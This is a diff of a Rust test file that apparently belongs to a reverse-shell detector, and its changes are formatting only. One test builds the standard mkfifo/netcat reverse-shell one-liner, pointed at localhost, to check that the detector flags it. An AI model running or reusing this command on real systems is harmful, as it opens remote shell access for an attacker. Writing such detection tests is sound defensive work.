@@ -54,7 +54,10 @@ fn check_shell(rig: &Rig, script: &str) -> Event {
     let seen = || {
         let events = rig.events();
         let own = events.iter().filter(|event| below(event, pid) && event.kind != EventKind::Fork);
-        own.map(|event| format!("{:?} {} {:?}\n", event.kind, event.process.name, event.process.stdio)).collect::<String>()
+        own.map(|event| {
+            format!("{:?} {} {:?}\n", event.kind, event.process.name, event.process.stdio)
+        })
+        .collect::<String>()
     };
     let event = found.unwrap_or_else(|| panic!("not recognised:\n{}", seen()));
     end(child);
@@ -101,7 +104,10 @@ fn netcat_with_a_fifo() {
     let fifo = folder.path().join("f");
     // Often, for the order in which the four processes start is the kernel's choice.
     for _ in 0..8 {
-        let script = format!("rm -f {0}; mkfifo {0}; cat {0} | /bin/sh -i 2>&1 | nc 127.0.0.1 $PORT > {0}", fifo.display());
+        let script = format!(
+            "rm -f {0}; mkfifo {0}; cat {0} | /bin/sh -i 2>&1 | nc 127.0.0.1 $PORT > {0}",
+            fifo.display()
+        );
         let event = check_shell(rig, &script);
         let stdio = &event.process.stdio;
         assert!(stdio.loops, "{stdio:?}");
@@ -124,7 +130,10 @@ fn check_silent(rig: &Rig, pid: u32) {
     let events = rig.events();
     let wrong = events.iter().find(|event| below(event, pid) && is_reverse(event));
     assert!(wrong.is_none(), "{wrong:?}");
-    assert!(events.iter().any(|event| below(event, pid) && event.kind == EventKind::Exec), "nothing was seen at all");
+    assert!(
+        events.iter().any(|event| below(event, pid) && event.kind == EventKind::Exec),
+        "nothing was seen at all"
+    );
 }
 
 #[test]
@@ -169,7 +178,8 @@ fn accepted_socket_is_none() {
         connect()
     });
     assert!(talk(stream.expect("the service listens")).contains(ANSWER));
-    let shell = rig.wait("the service's shell", |event| below(event, pid) && event.process.name == "sh");
+    let shell =
+        rig.wait("the service's shell", |event| below(event, pid) && event.process.name == "sh");
     assert_eq!(shell.process.stdio.remote, Some(false), "{:?}", shell.process.stdio);
     end(child);
     check_silent(rig, pid);
